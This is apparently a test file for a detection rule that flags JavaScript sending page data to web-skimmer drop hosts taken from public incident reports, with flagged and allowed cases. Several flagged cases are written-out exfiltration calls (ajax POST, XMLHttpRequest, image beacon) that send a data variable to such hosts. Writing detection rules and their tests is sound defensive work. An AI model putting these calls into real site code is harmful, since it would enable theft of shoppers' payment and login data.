// Tests for known-skimmer-drop-hosts: the documented drop hosts from public incident reports.
// Sections are separate scripts (a host named only in text is found when no sink names one).

// ruleid: known-skimmer-drop-hosts
jQuery.ajax({ type: 'POST', url: 'https://baways.com/gateway/app/dataprocessing/api/', data: window.__d });

// ---
var x = new XMLHttpRequest();
x.open('POST', 'https://neweggstats.com/GlobalData/');
// ruleid: known-skimmer-drop-hosts
x.send(window.__d);

// ---
// ruleid: known-skimmer-drop-hosts
new Image().src = 'https://www.g-analytics.com/__utm.gif?d=' + window.__d;

// ---
// A host kept in a config object and used later (found in the text).
// ruleid: known-skimmer-drop-hosts
var cfg = { host: 'webfotce.me', key: 'a1b2' };

// ---
// ok: known-skimmer-drop-hosts
new Image().src = 'https://www.google-analytics.com/collect?v=1&t=pageview';

// ---
var gtm = document.createElement('script');
// ok: known-skimmer-drop-hosts
gtm.src = 'https://www.googletagmanager.com/gtm.js?id=GTM-ABC123';

// ---
// ok: known-skimmer-drop-hosts
fetch('https://api.stripe.com/v1/tokens', { method: 'POST', body: window.__tok });

// ---
var fa = document.createElement('link');
fa.rel = 'stylesheet';
// ok: known-skimmer-drop-hosts
fa.href = 'https://use.fontawesome.com/releases/v6.5.1/css/all.css';

// ---
// A host that merely ends with the same letters is not the documented host.
// ok: known-skimmer-drop-hosts
navigator.sendBeacon('https://collect.shopping-analytics.com/v1/event', '');

// ---
// Named only in a comment: not contact (e.g. a changelog mentioning baways.com).
// ok: known-skimmer-drop-hosts
var x = 1;
